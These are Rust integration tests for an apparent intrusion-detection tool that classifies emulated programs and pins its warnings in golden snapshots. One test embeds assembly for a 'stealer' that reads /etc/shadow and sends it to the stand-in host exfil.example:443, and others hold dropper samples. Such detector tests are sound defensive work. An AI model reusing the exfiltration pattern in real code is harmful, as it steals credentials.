    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/golden/explain.txt");
    if std::env::var_os("UPDATE_GOLDEN").is_some() {
        std::fs::write(path, &rendered).expect("golden path writable");
        return;
    }
    let golden = std::fs::read_to_string(path)
        .expect("golden snapshot missing; run with UPDATE_GOLDEN=1 to create it");
    assert_eq!(
        golden, rendered,
        "explain trees diverged from tests/golden/explain.txt; \
         if the change is intended, regenerate with UPDATE_GOLDEN=1"
    );
}
