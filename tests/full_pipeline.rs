//! Cross-crate integration tests: the complete HTH pipeline from
//! assembly source to Secpert warnings, exercised through the public
//! `hth` facade.

use hth::hth_workloads::{all_scenarios, Group};
use hth::{PolicyConfig, Session, SessionConfig, Severity};

/// Every scenario in the repository must match its expected
/// classification — this is the headline reproduction claim (paper §8).
#[test]
fn every_paper_scenario_is_classified_as_expected() {
    let scenarios = all_scenarios();
    assert!(scenarios.len() >= 45, "the full corpus should be present, got {}", scenarios.len());
    let mut failures = Vec::new();
    for scenario in scenarios {
        let result = scenario.run().expect("scenario runs");
        if !result.correct() {
            failures.push(format!(
                "[{}] {}: expected {:?}, max={:?}, rules={:?}",
                scenario.group.table(),
                scenario.id,
                scenario.expected,
                result.max_severity(),
                result.rules_fired(),
            ));
        }
    }
    assert!(failures.is_empty(), "misclassified scenarios:\n{}", failures.join("\n"));
}

/// Detection table: all exploits warn, no exploit is missed.
#[test]
fn all_exploits_detected_none_missed() {
    for scenario in all_scenarios() {
        if scenario.group == Group::Exploit {
            let result = scenario.run().expect("runs");
            assert!(
                result.max_severity().is_some(),
                "{} must produce at least one warning",
                scenario.id
            );
        }
    }
}

/// False positives on trusted programs are Low severity only.
#[test]
fn trusted_false_positives_are_low_only() {
    for scenario in all_scenarios() {
        if scenario.group == Group::Trusted {
            let result = scenario.run().expect("runs");
            if let Some(sev) = result.max_severity() {
                assert_eq!(sev, Severity::Low, "{}", scenario.id);
            }
        }
    }
}

/// A full user story through the facade: install files, hosts and a
/// peer; run a data-stealing program; check the High warning explains
/// itself (source, target, and both hardcoded origins).
#[test]
fn exfiltration_warning_explains_itself() {
    use hth::emukernel::{Endpoint, FileNode, Peer};
    let mut session = Session::new(SessionConfig::default()).unwrap();
    session.kernel.vfs.install("/etc/shadow", FileNode::regular(b"root:$6$salt$hash".to_vec()));
    session.kernel.net.add_host("exfil.example", 0x0505_0505);
    session.kernel.net.add_peer(Endpoint { ip: 0x0505_0505, port: 443 }, Peer::default());
    session.kernel.register_binary(
        "/bin/stealer",
        r#"
        _start:
            mov eax, 5
            mov ebx, path
            mov ecx, 0
            int 0x80
            mov edi, eax
            mov eax, 3
            mov ebx, edi
            mov ecx, 0x09000000
            mov edx, 16
            int 0x80
            mov eax, 102
            mov ebx, 1
            mov ecx, sockargs
            int 0x80
            mov esi, eax
            mov [connargs], esi
            mov eax, 102
            mov ebx, 3
            mov ecx, connargs
            int 0x80
            mov [sendargs], esi
            mov eax, 102
            mov ebx, 9
            mov ecx, sendargs
            int 0x80
            mov eax, 1
            mov ebx, 0
            int 0x80
        .data
        path:     .asciz "/etc/shadow"
        sockargs: .long 2, 1, 0
        addr:     .word 2
        port:     .word 443
        ip:       .long 0x05050505
        connargs: .long 0, addr, 8
        sendargs: .long 0, 0x09000000, 16, 0
        "#,
        &[],
    );
    session.start("/bin/stealer", &["/bin/stealer"], &[]).unwrap();
    session.run().unwrap();
    assert_eq!(session.max_severity(), Some(Severity::High));
    let warning = session
        .warnings()
        .iter()
        .find(|w| w.rule == "flow_file_to_socket")
        .expect("exfiltration rule fires")
        .clone();
    assert!(warning.message.contains("/etc/shadow"), "{warning}");
    assert!(warning.message.contains("exfil.example:443"), "{warning}");
    assert!(warning.message.contains("hardcoded"), "{warning}");
}

/// Custom trust lists change classifications: trusting the X libraries
/// silences the xeyes false positive, exactly as the policy intends.
#[test]
fn trusting_x_libraries_silences_xeyes() {
    let scenario = all_scenarios().into_iter().find(|s| s.id == "xeyes").unwrap();
    let mut policy = PolicyConfig::default();
    policy.trusted_binaries.push("libX11.so".to_string());
    let config = SessionConfig { policy, ..SessionConfig::default() };
    let result = scenario.run_with(config).unwrap();
    assert!(result.warnings.is_empty(), "{:?}", result.warnings);
}

/// Disabling dataflow tracking (the §9 cheap configuration) loses the
/// origin information and with it the hardcoded-execve warning:
/// the policy's precision depends on taint tracking.
#[test]
fn no_dataflow_means_no_origin_warnings() {
    let scenario = all_scenarios().into_iter().find(|s| s.id == "execve_hardcode").unwrap();
    let mut config = SessionConfig::default();
    config.harrier.track_dataflow = false;
    let result = scenario.run_with(config).unwrap();
    assert!(result.warnings.is_empty(), "{:?}", result.warnings);
}

/// Multi-process monitoring: every monitored child of a fork bomb is
/// tracked (the session keeps shadows per pid).
#[test]
fn fork_children_are_monitored_too() {
    let scenario = all_scenarios().into_iter().find(|s| s.id == "tree_forker").unwrap();
    let result = scenario.run().unwrap();
    assert!(result.report.exited.len() >= 30, "tree of 2^5 processes expected");
    assert!(result.warnings.iter().any(|w| w.rule == "check_clone_count"));
}

/// The paper's severity ordering is observable end to end: socket-origin
/// execve (High) outranks hardcoded execve (Low).
#[test]
fn severity_ordering_matches_paper() {
    let ids = ["execve_user_input", "execve_hardcode", "execve_infrequent", "execve_remote"];
    let mut sevs = Vec::new();
    for id in ids {
        let scenario = all_scenarios().into_iter().find(|s| s.id == id).unwrap();
        sevs.push(scenario.run().unwrap().max_severity());
    }
    assert_eq!(sevs[0], None);
    assert_eq!(sevs[1], Some(Severity::Low));
    assert_eq!(sevs[2], Some(Severity::Medium));
    assert_eq!(sevs[3], Some(Severity::High));
}

/// Simultaneous sessions (paper §10, item 7): one session can monitor
/// two unrelated programs at once; warnings carry the right pid.
#[test]
fn two_programs_monitored_simultaneously() {
    let mut session = Session::new(SessionConfig::default()).unwrap();
    session.kernel.register_binary(
        "/bin/benign",
        r"
        _start:
            mov eax, 4
            mov ebx, 1
            mov ecx, 0x09000000
            mov edx, 4
            int 0x80
            mov eax, 1
            mov ebx, 0
            int 0x80
        ",
        &[],
    );
    session.kernel.register_binary(
        "/bin/dropper",
        r#"
        _start:
            mov eax, 11
            mov ebx, prog
            int 0x80
            hlt
        .data
        prog: .asciz "/bin/ls"
        "#,
        &[],
    );
    let benign_pid = session.start("/bin/benign", &["/bin/benign"], &[]).unwrap();
    let dropper_pid = session.start("/bin/dropper", &["/bin/dropper"], &[]).unwrap();
    session.run().unwrap();
    assert_ne!(benign_pid, dropper_pid);
    let warnings = session.warnings();
    assert!(!warnings.is_empty());
    assert!(warnings.iter().all(|w| w.pid == dropper_pid), "{warnings:?}");
}

/// Hybrid static analysis (paper §10, item 2): a Secure Binary (no
/// hardcoded resource names) runs without the data-flow tracker; a
/// non-secure one keeps full tracking and still warns.
#[test]
fn hybrid_static_analysis_skips_dataflow_for_secure_binaries() {
    let secure_src = r"
        _start:
            mov ebp, esp
            mov ebx, [ebp+8]    ; file named by the user, nothing hardcoded
            mov eax, 5
            mov ecx, 0
            int 0x80
            mov eax, 1
            mov ebx, 0
            int 0x80
        ";
    let config = SessionConfig { hybrid_static_analysis: true, ..SessionConfig::default() };
    let mut session = Session::new(config.clone()).unwrap();
    session.kernel.vfs.install("notes.txt", hth::emukernel::FileNode::regular(b"x".to_vec()));
    session.kernel.register_binary("/bin/secure", secure_src, &[]);
    session.start("/bin/secure", &["/bin/secure", "notes.txt"], &[]).unwrap();
    session.run().unwrap();
    assert!(!session.harrier().config().track_dataflow, "audit should disable dataflow");
    assert!(session.warnings().is_empty());

    // A dropper (hardcoded strings) keeps full tracking under hybrid mode.
    let mut session = Session::new(config).unwrap();
    session.kernel.register_binary(
        "/bin/dropper",
        r#"
        _start:
            mov eax, 11
            mov ebx, prog
            int 0x80
            hlt
        .data
        prog: .asciz "/bin/ls"
        "#,
        &[],
    );
    session.start("/bin/dropper", &["/bin/dropper"], &[]).unwrap();
    session.run().unwrap();
    assert!(session.harrier().config().track_dataflow);
    assert_eq!(session.max_severity(), Some(Severity::Low));
}

/// Golden warning traces for the §8 workloads (Table 8 exploits and the
/// §8.4 macro benchmarks): the exact rule/severity/message sequence of
/// every warning is pinned byte-for-byte. Any change to taint
/// propagation, origin attribution, or rule evaluation shows up here as
/// a readable diff. Regenerate intentionally with
/// `UPDATE_GOLDEN=1 cargo test golden`.
#[test]
fn exploit_warning_traces_match_golden_snapshot() {
    let mut rendered = String::new();
    for scenario in all_scenarios() {
        if scenario.group != Group::Exploit && scenario.group != Group::Macro {
            continue;
        }
        let result = scenario.run().expect("scenario runs");
        rendered.push_str(&format!("== {} ({})\n", scenario.id, scenario.group.table()));
        if result.warnings.is_empty() {
            rendered.push_str("(silent)\n");
        }
        for w in &result.warnings {
            rendered.push_str(&format!(
                "t={} pid={} {} [{}] {}\n",
                w.time,
                w.pid,
                w.rule,
                w.severity.label(),
                w.message
            ));
        }
    }
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/golden/warnings.txt");
    if std::env::var_os("UPDATE_GOLDEN").is_some() {
        std::fs::write(path, &rendered).expect("golden path writable");
        return;
    }
    let golden = std::fs::read_to_string(path)
        .expect("golden snapshot missing; run with UPDATE_GOLDEN=1 to create it");
    assert_eq!(
        golden, rendered,
        "warning traces diverged from tests/golden/warnings.txt; \
         if the change is intended, regenerate with UPDATE_GOLDEN=1"
    );
}

/// execve into a *registered* binary replaces the image and monitoring
/// continues: a launcher execs a dropper, and the dropper's hardcoded
/// write (in the NEW image) is still caught with the right origin.
#[test]
fn monitoring_survives_execve_image_replacement() {
    let mut session = Session::new(SessionConfig::default()).unwrap();
    session.kernel.register_binary(
        "/bin/stage2",
        r#"
        _start:
            mov eax, 5
            mov ebx, dropname
            mov ecx, 0x41
            int 0x80
            mov esi, eax
            mov eax, 4
            mov ebx, esi
            mov ecx, payload
            mov edx, 9
            int 0x80
            mov eax, 1
            mov ebx, 0
            int 0x80
        .data
        dropname: .asciz "/tmp/stage2-drop"
        payload:  .asciz "STAGE-TWO"
        "#,
        &[],
    );
    session.kernel.register_binary(
        "/bin/stage1",
        r#"
        _start:
            mov eax, 11         ; execve the (registered) second stage
            mov ebx, prog
            int 0x80
            hlt                 ; unreachable on success
        .data
        prog: .asciz "/bin/stage2"
        "#,
        &[],
    );
    session.start("/bin/stage1", &["/bin/stage1"], &[]).unwrap();
    let report = session.run().unwrap();
    assert!(report.faults.is_empty(), "{report:?}");
    // The exec itself warned Low (hardcoded name)…
    assert!(session.warnings().iter().any(|w| w.rule == "check_execve"));
    // …and the *new image's* dropper behaviour warned High, with the
    // origin attributed to /bin/stage2 (the post-exec binary).
    let drop = session
        .warnings()
        .iter()
        .find(|w| w.rule == "flow_binary_to_file")
        .expect("stage2's write is monitored")
        .clone();
    assert!(drop.message.contains("/tmp/stage2-drop"), "{drop}");
    assert!(drop.message.contains("/bin/stage2"), "{drop}");
    // The file really was written by the replaced image.
    assert_eq!(session.kernel.vfs.get("/tmp/stage2-drop").unwrap().data(), b"STAGE-TWO");
}
