//! The flight recorder and introspection surface, pinned end to end:
//!
//! * the `/statusz` rendering (what `hth top --once` prints) against a
//!   golden snapshot, regenerable with `UPDATE_GOLDEN=1`,
//! * the chaos-bundle determinism guarantee: a seeded quarantine
//!   captures a [`hth_trace::DiagnosticBundle`] whose event tail ends
//!   with the faulted event, whose rendered form is byte-identical
//!   across two runs with the same fault plan, and whose surrounding
//!   warning stream replays identically — eviction of the engine is
//!   observable in the bundle but invisible in the verdict.

use std::sync::Arc;

use harrier::{Origin, ResourceType, SecpertEvent, SourceInfo};
use hth_core::PolicyConfig;
use hth_fleet::{AnalystPool, FaultPlan, PoolConfig, PoolReport};
use hth_serve::{ServeStats, SessionRow, StatusReport};
use hth_trace::{DiagnosticBundle, Trigger};

/// A tainted execve chain — the dropper shape that always warns.
fn dropper_event(i: u64) -> SecpertEvent {
    SecpertEvent::ResourceAccess {
        pid: 1,
        syscall: "SYS_execve",
        resource: SourceInfo::new(ResourceType::File, "/bin/ls"),
        origin: Origin { sources: vec![SourceInfo::new(ResourceType::Binary, "/bin/x")] },
        time: i,
        frequency: 5,
        address: 0,
        proc_count: None,
        proc_rate: None,
        mem_total: None,
        server: None,
    }
}

/// One seeded chaos pass: a single-shard pool with a fault planted on
/// the 4th event (`panic_on(0, 3)`), fed a fixed 8-event stream.
fn chaos_pass() -> PoolReport {
    let config = PoolConfig {
        shards: 1,
        faults: Some(Arc::new(FaultPlan::new().panic_on(0, 3))),
        ..PoolConfig::default()
    };
    let pool = AnalystPool::new(&config, &PolicyConfig::default()).expect("policy loads");
    for i in 0..8 {
        pool.submit(7, dropper_event(i));
    }
    pool.finish()
}

/// The warning stream as comparable lines (rule, severity, message).
fn warning_lines(report: &PoolReport) -> Vec<String> {
    report
        .warnings
        .iter()
        .map(|w| format!("{} [{}] {}", w.rule, w.severity.label(), w.message))
        .collect()
}

#[test]
fn seeded_quarantine_captures_a_deterministic_bundle() {
    let first = chaos_pass();
    let second = chaos_pass();

    assert_eq!(first.quarantined, 1, "{:?}", first.quarantine_log);
    assert_eq!(first.bundles.len(), 1, "one quarantine, one bundle");
    let bundle: &DiagnosticBundle = &first.bundles[0];

    // The trigger names the faulted shard and event.
    match &bundle.trigger {
        Trigger::Quarantine { shard, event_nth, message } => {
            assert_eq!(*shard, 0);
            assert_eq!(*event_nth, 3);
            assert!(message.contains("injected fault"), "{message}");
        }
        other => panic!("expected a quarantine trigger, got {}", other.kind()),
    }

    // The event tail ends with the faulted event itself: the recorder
    // logs the panic as a `fault` entry before the capture, so the last
    // ring slot is the event that killed the engine.
    let last = bundle.events.last().expect("non-empty tail");
    assert_eq!(last.kind, "fault");
    assert_eq!(last.label.as_str(), "SYS_execve");
    assert_eq!(last.time, 2, "the event the plan's counter landed on (time = index)");
    // ... preceded by the events the engine analysed before it.
    let analysed = bundle.events.iter().filter(|e| e.kind == "event").count();
    assert_eq!(analysed, 2, "events recorded before the fault");

    // Byte-stable across runs with the same plan: the rendered form
    // (trigger, tail, provenance) carries no wall-clock state.
    assert_eq!(second.bundles.len(), 1);
    assert_eq!(bundle.render(), second.bundles[0].render(), "bundle must be byte-stable");

    // And the verdict replays: same warnings, both runs, despite the
    // mid-stream engine respawn.
    assert_eq!(warning_lines(&first), warning_lines(&second));
    assert!(!first.warnings.is_empty(), "the dropper chain must still warn");
    assert_eq!(first.respawns, 1, "fresh engine after the quarantine");
}

#[test]
fn bundle_json_names_the_faulted_shard() {
    let report = chaos_pass();
    let json = report.bundles[0].to_json();
    // Hand-rolled JSON; the CI chaos smoke parses this with python3.
    assert!(json.contains("\"kind\":\"quarantine\""), "{json}");
    assert!(json.contains("\"shard\":0"), "{json}");
    assert!(json.contains("\"event_nth\":3"), "{json}");
    assert!(json.contains("SYS_execve"), "{json}");
}

/// The `/statusz` rendering (served by the daemon, displayed by
/// `hth top`), pinned byte-for-byte over a fixed report. Any change to
/// the layout shows up here as a readable diff. Regenerate
/// intentionally with `UPDATE_GOLDEN=1 cargo test --test flight_recorder`.
#[test]
fn statusz_rendering_matches_golden_snapshot() {
    let report = StatusReport {
        uptime_secs: 3671,
        stats: ServeStats {
            sessions_resident: 2,
            sessions_open: 3,
            events_total: 4096,
            warnings_total: 7,
            evictions: 5,
            restores: 4,
            fallback_replays: 1,
            resident_bytes: 147_456,
            correlator_warnings: 2,
        },
        budget_bytes: 262_144,
        sessions: vec![
            SessionRow {
                sid: 1,
                label: "pwsafe".into(),
                resident: true,
                bytes: 81_920,
                events: 2048,
                warnings: 4,
            },
            SessionRow {
                sid: 2,
                label: String::new(),
                resident: true,
                bytes: 65_536,
                events: 1024,
                warnings: 0,
            },
            SessionRow {
                sid: 9,
                label: "wget-drop".into(),
                resident: false,
                bytes: 0,
                events: 1024,
                warnings: 3,
            },
        ],
        ack_p50_us: 127,
        ack_p99_us: 2047,
        ack_count: 4096,
        bundles_total: 6,
        bundles: vec![
            "#4 warning (serve.table): rule exec-tainted severity high".into(),
            "#5 restore_fallback (serve.table): session 9: torn or missing snapshot".into(),
        ],
    };
    let rendered = report.render();
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/golden/statusz.txt");
    if std::env::var_os("UPDATE_GOLDEN").is_some() {
        std::fs::write(path, &rendered).expect("golden path writable");
        return;
    }
    let golden = std::fs::read_to_string(path)
        .expect("golden snapshot missing; run with UPDATE_GOLDEN=1 to create it");
    assert_eq!(
        golden, rendered,
        "statusz rendering diverged from tests/golden/statusz.txt; \
         if the change is intended, regenerate with UPDATE_GOLDEN=1"
    );
}
