//! The chaos acceptance property: a fault-injected fleet loses *only*
//! what its counters say it lost. For ten fixed seeds, the same
//! recorded event streams go through a supervised pool under a
//! [`FaultPlan`]; the survivor warning multiset must be a sub-multiset
//! of the fault-free baseline, and the difference must be *exactly* the
//! warnings of the events the counters report lost (quarantined by a
//! panic, or discarded by a degraded shard). No silent loss, no
//! invented warnings.
//!
//! This leans on a property the policy guarantees by construction: the
//! Secpert is stateless per event (cleanup rules retract each event's
//! facts), so a fresh engine replaying a lost event yields the same
//! warnings the baseline produced for it.

use std::collections::BTreeMap;
use std::sync::{Arc, Mutex};

use harrier::SecpertEvent;
use hth_core::{PolicyConfig, Secpert, Session, SessionConfig, Warning};
use hth_fleet::{warning_multiset, AnalystPool, FaultPlan, PoolConfig};
use hth_workloads::Scenario;

const SEEDS: [u64; 10] = [1, 2, 3, 5, 7, 11, 13, 42, 1009, 0xDEAD_BEEF];

fn workload() -> Vec<Scenario> {
    let mut scenarios = hth_workloads::exploits::scenarios();
    scenarios.extend(
        hth_workloads::macro_bench::scenarios()
            .into_iter()
            .filter(|s| s.id == "ttt" || s.id == "ttt_trojaned"),
    );
    scenarios
}

/// Runs one scenario inline (the fault-free sequential baseline),
/// recording its event stream through the session tap.
fn record(scenario: &Scenario) -> (Vec<Warning>, Vec<SecpertEvent>) {
    let events = Arc::new(Mutex::new(Vec::new()));
    let mut session = Session::new(SessionConfig::default()).expect("policy loads");
    let start = (scenario.setup)(&mut session);
    let sink = Arc::clone(&events);
    session.set_event_tap(Box::new(move |event| {
        sink.lock().expect("event sink").push(event.clone());
    }));
    let argv: Vec<&str> = start.argv.iter().map(String::as_str).collect();
    let env: Vec<(&str, &str)> = start.env.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    session.start(start.path, &argv, &env).expect("spawns");
    session.run().expect("runs");
    let warnings = session.warnings().to_vec();
    drop(session);
    let events = Arc::try_unwrap(events)
        .unwrap_or_else(|_| unreachable!("tap dropped with the session"))
        .into_inner()
        .expect("event sink");
    (warnings, events)
}

/// `a - b` over warning multisets; panics if `b ⊄ a`.
fn multiset_sub(
    a: &BTreeMap<(hth_core::Severity, String), usize>,
    b: &BTreeMap<(hth_core::Severity, String), usize>,
) -> BTreeMap<(hth_core::Severity, String), usize> {
    let mut out = a.clone();
    for (key, count) in b {
        let have = out.get_mut(key).unwrap_or_else(|| {
            panic!("survivors contain warnings the baseline never produced: {key:?}")
        });
        assert!(*have >= *count, "survivor count exceeds baseline for {key:?}");
        *have -= count;
        if *have == 0 {
            out.remove(key);
        }
    }
    out
}

#[test]
fn chaos_fleet_loses_exactly_what_the_counters_say() {
    let scenarios = workload();
    let mut baseline_warnings = Vec::new();
    let mut streams = Vec::new();
    for scenario in &scenarios {
        let (warnings, events) = record(scenario);
        baseline_warnings.extend(warnings);
        streams.push(events);
    }
    let baseline = warning_multiset(&baseline_warnings);
    assert!(!baseline.is_empty(), "the corpus must warn");

    for seed in SEEDS {
        // Rate faults from the seed plus one guaranteed panic per shard,
        // so every seed exercises the quarantine path deterministically.
        let mut plan = FaultPlan::from_seed(seed);
        for shard in 0..4 {
            plan = plan.panic_on(shard, 2 + seed % 3);
        }
        let config = PoolConfig {
            shards: 4,
            max_respawns: (seed % 3) as u32, // 0..=2: some seeds degrade
            faults: Some(Arc::new(plan)),
            keep_lost_events: true,
            ..PoolConfig::default()
        };
        let pool = AnalystPool::new(&config, &PolicyConfig::default()).expect("policy loads");
        for (sid, stream) in streams.iter().enumerate() {
            for event in stream {
                pool.submit(sid as u64, event.clone());
            }
        }
        let report = pool.finish();

        // Counter totality: every submitted event is analysed or in
        // exactly one loss bucket, per shard and in aggregate.
        for (i, shard) in report.shards.iter().enumerate() {
            assert_eq!(
                shard.submitted,
                shard.events + shard.lost(),
                "seed {seed} shard {i}: submitted != analysed + lost"
            );
        }
        assert_eq!(report.submitted, streams.iter().map(|s| s.len() as u64).sum::<u64>());
        assert!(report.quarantined > 0, "seed {seed}: the guaranteed panics must fire");
        assert_eq!(
            report.lost_events.len() as u64,
            report.lost(),
            "seed {seed}: every lost event is captured"
        );
        assert_eq!(
            report.quarantine_log.len() as u64,
            report.quarantined,
            "seed {seed}: every quarantine is logged"
        );

        // Survivors ⊆ baseline, and the missing part is exactly the
        // warnings of the lost events.
        let survivors = warning_multiset(&report.warnings);
        let missing = multiset_sub(&baseline, &survivors);
        let mut secpert = Secpert::new(&PolicyConfig::default()).expect("policy loads");
        let mut lost_warnings = Vec::new();
        for event in &report.lost_events {
            lost_warnings.extend(secpert.process_event(event).expect("stateless replay"));
        }
        assert_eq!(
            warning_multiset(&lost_warnings),
            missing,
            "seed {seed}: loss must be exactly accounted (quarantined {} discarded {} dropped {})",
            report.quarantined,
            report.discarded,
            report.dropped,
        );
    }
}

/// A fault-free pool over the same recorded streams reproduces the
/// sequential baseline exactly — the zero-chaos control for the test
/// above.
#[test]
fn fault_free_pool_matches_the_baseline_exactly() {
    let scenarios = workload();
    let mut baseline_warnings = Vec::new();
    let mut streams = Vec::new();
    for scenario in &scenarios {
        let (warnings, events) = record(scenario);
        baseline_warnings.extend(warnings);
        streams.push(events);
    }
    let pool = AnalystPool::new(
        &PoolConfig { shards: 4, ..PoolConfig::default() },
        &PolicyConfig::default(),
    )
    .expect("policy loads");
    for (sid, stream) in streams.iter().enumerate() {
        for event in stream {
            pool.submit(sid as u64, event.clone());
        }
    }
    let report = pool.finish();
    assert_eq!(report.lost(), 0);
    assert!(report.errors.is_empty(), "{:?}", report.errors);
    assert_eq!(warning_multiset(&report.warnings), warning_multiset(&baseline_warnings));
}
