//! The chaos acceptance property: a fault-injected fleet loses *only*
//! what its counters say it lost. For ten fixed seeds, the same
//! recorded event streams go through a supervised pool under a
//! [`FaultPlan`]; the survivor warning multiset must be a sub-multiset
//! of the fault-free baseline, and the difference must be *exactly* the
//! warnings of the events the counters report lost (quarantined by a
//! panic, or discarded by a degraded shard). No silent loss, no
//! invented warnings.
//!
//! This leans on a property the policy guarantees by construction: the
//! Secpert is stateless per event (cleanup rules retract each event's
//! facts), so a fresh engine replaying a lost event yields the same
//! warnings the baseline produced for it.

use std::collections::BTreeMap;
use std::sync::{Arc, Mutex};

use harrier::SecpertEvent;
use hth_core::{PolicyConfig, Secpert, Session, SessionConfig, Warning};
use hth_fleet::{warning_multiset, AnalystPool, FaultPlan, PoolConfig};
use hth_workloads::Scenario;

const SEEDS: [u64; 10] = [1, 2, 3, 5, 7, 11, 13, 42, 1009, 0xDEAD_BEEF];

fn workload() -> Vec<Scenario> {
    let mut scenarios = hth_workloads::exploits::scenarios();
    scenarios.extend(
        hth_workloads::macro_bench::scenarios()
            .into_iter()
            .filter(|s| s.id == "ttt" || s.id == "ttt_trojaned"),
    );
    scenarios
}

/// Runs one scenario inline (the fault-free sequential baseline),
/// recording its event stream through the session tap.
fn record(scenario: &Scenario) -> (Vec<Warning>, Vec<SecpertEvent>) {
    let events = Arc::new(Mutex::new(Vec::new()));
    let mut session = Session::new(SessionConfig::default()).expect("policy loads");
    let start = (scenario.setup)(&mut session);
    let sink = Arc::clone(&events);
    session.set_event_tap(Box::new(move |event| {
        sink.lock().expect("event sink").push(event.clone());
    }));
    let argv: Vec<&str> = start.argv.iter().map(String::as_str).collect();
    let env: Vec<(&str, &str)> = start.env.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    session.start(start.path, &argv, &env).expect("spawns");
    session.run().expect("runs");
    let warnings = session.warnings().to_vec();
    drop(session);
    let events = Arc::try_unwrap(events)
        .unwrap_or_else(|_| unreachable!("tap dropped with the session"))
        .into_inner()
        .expect("event sink");
    (warnings, events)
}

/// `a - b` over warning multisets; panics if `b ⊄ a`.
fn multiset_sub(
    a: &BTreeMap<(hth_core::Severity, String), usize>,
    b: &BTreeMap<(hth_core::Severity, String), usize>,
) -> BTreeMap<(hth_core::Severity, String), usize> {
    let mut out = a.clone();
    for (key, count) in b {
        let have = out.get_mut(key).unwrap_or_else(|| {
            panic!("survivors contain warnings the baseline never produced: {key:?}")
        });
        assert!(*have >= *count, "survivor count exceeds baseline for {key:?}");
        *have -= count;
        if *have == 0 {
            out.remove(key);
        }
    }
    out
}

#[test]
fn chaos_fleet_loses_exactly_what_the_counters_say() {
    let scenarios = workload();
    let mut baseline_warnings = Vec::new();
    let mut streams = Vec::new();
    for scenario in &scenarios {
        let (warnings, events) = record(scenario);
        baseline_warnings.extend(warnings);
        streams.push(events);
    }
    let baseline = warning_multiset(&baseline_warnings);
    assert!(!baseline.is_empty(), "the corpus must warn");

    for seed in SEEDS {
        // Rate faults from the seed plus one guaranteed panic per shard,
        // so every seed exercises the quarantine path deterministically.
        let mut plan = FaultPlan::from_seed(seed);
        for shard in 0..4 {
            plan = plan.panic_on(shard, 2 + seed % 3);
        }
        let config = PoolConfig {
            shards: 4,
            max_respawns: (seed % 3) as u32, // 0..=2: some seeds degrade
            faults: Some(Arc::new(plan)),
            keep_lost_events: true,
            ..PoolConfig::default()
        };
        let pool = AnalystPool::new(&config, &PolicyConfig::default()).expect("policy loads");
        for (sid, stream) in streams.iter().enumerate() {
            for event in stream {
                pool.submit(sid as u64, event.clone());
            }
        }
        let report = pool.finish();

        // Counter totality: every submitted event is analysed or in
        // exactly one loss bucket, per shard and in aggregate.
        for (i, shard) in report.shards.iter().enumerate() {
            assert_eq!(
                shard.submitted,
                shard.events + shard.lost(),
                "seed {seed} shard {i}: submitted != analysed + lost"
            );
        }
        assert_eq!(report.submitted, streams.iter().map(|s| s.len() as u64).sum::<u64>());
        assert!(report.quarantined > 0, "seed {seed}: the guaranteed panics must fire");
        assert_eq!(
            report.lost_events.len() as u64,
            report.lost(),
            "seed {seed}: every lost event is captured"
        );
        assert_eq!(
            report.quarantine_log.len() as u64,
            report.quarantined,
            "seed {seed}: every quarantine is logged"
        );

        // Survivors ⊆ baseline, and the missing part is exactly the
        // warnings of the lost events.
        let survivors = warning_multiset(&report.warnings);
        let missing = multiset_sub(&baseline, &survivors);
        let mut secpert = Secpert::new(&PolicyConfig::default()).expect("policy loads");
        let mut lost_warnings = Vec::new();
        for (_session, event) in &report.lost_events {
            lost_warnings.extend(secpert.process_event(event).expect("stateless replay"));
        }
        assert_eq!(
            warning_multiset(&lost_warnings),
            missing,
            "seed {seed}: loss must be exactly accounted (quarantined {} discarded {} dropped {})",
            report.quarantined,
            report.discarded,
            report.dropped,
        );
    }
}

/// A fault-free pool over the same recorded streams reproduces the
/// sequential baseline exactly — the zero-chaos control for the test
/// above.
#[test]
fn fault_free_pool_matches_the_baseline_exactly() {
    let scenarios = workload();
    let mut baseline_warnings = Vec::new();
    let mut streams = Vec::new();
    for scenario in &scenarios {
        let (warnings, events) = record(scenario);
        baseline_warnings.extend(warnings);
        streams.push(events);
    }
    let pool = AnalystPool::new(
        &PoolConfig { shards: 4, ..PoolConfig::default() },
        &PolicyConfig::default(),
    )
    .expect("policy loads");
    for (sid, stream) in streams.iter().enumerate() {
        for event in stream {
            pool.submit(sid as u64, event.clone());
        }
    }
    let report = pool.finish();
    assert_eq!(report.lost(), 0);
    assert!(report.errors.is_empty(), "{:?}", report.errors);
    assert_eq!(warning_multiset(&report.warnings), warning_multiset(&baseline_warnings));
}

/// A fault *inside* a batch changes nothing the counters can see: for
/// the same ten seeds, a `batch_size=64` pool (with the first event of
/// every shard stalled so the queue fills and later drains are real
/// multi-event batches — the guaranteed panic then fires mid-batch)
/// and a `batch_size=1` pool produce identical counters, identical
/// survivor warning multisets, and identical lost-event multisets,
/// and both satisfy `submitted == analysed + dropped + quarantined +
/// discarded` on every shard.
#[test]
fn chaos_inside_a_batch_is_counted_exactly_like_per_event() {
    let scenarios = workload();
    let streams: Vec<Vec<SecpertEvent>> = scenarios.iter().map(|s| record(s).1).collect();

    let run = |seed: u64, batch_size: usize| {
        let mut plan = FaultPlan::from_seed(seed);
        for shard in 0..4 {
            // The stall parks each shard on its first event while the
            // producers fill its queue; the panic two-to-four events
            // later then lands inside a drained multi-event batch.
            plan = plan.stall_on(shard, 1, 20).panic_on(shard, 2 + seed % 3);
        }
        let config = PoolConfig {
            shards: 4,
            batch_size,
            max_respawns: (seed % 3) as u32,
            faults: Some(Arc::new(plan)),
            keep_lost_events: true,
            ..PoolConfig::default()
        };
        let pool = AnalystPool::new(&config, &PolicyConfig::default()).expect("policy loads");
        for (sid, stream) in streams.iter().enumerate() {
            for event in stream {
                pool.submit(sid as u64, event.clone());
            }
        }
        pool.finish()
    };

    for seed in SEEDS {
        let batched = run(seed, 64);
        let serial = run(seed, 1);
        for report in [&batched, &serial] {
            for (i, shard) in report.shards.iter().enumerate() {
                assert_eq!(
                    shard.submitted,
                    shard.events + shard.dropped + shard.quarantined + shard.discarded,
                    "seed {seed} shard {i}: conservation violated"
                );
            }
            assert!(report.quarantined > 0, "seed {seed}: the guaranteed panics must fire");
        }
        assert_eq!(batched.submitted, serial.submitted, "seed {seed}");
        assert_eq!(batched.events, serial.events, "seed {seed}: analysed diverged");
        assert_eq!(batched.dropped, serial.dropped, "seed {seed}: dropped diverged");
        assert_eq!(batched.quarantined, serial.quarantined, "seed {seed}: quarantined diverged");
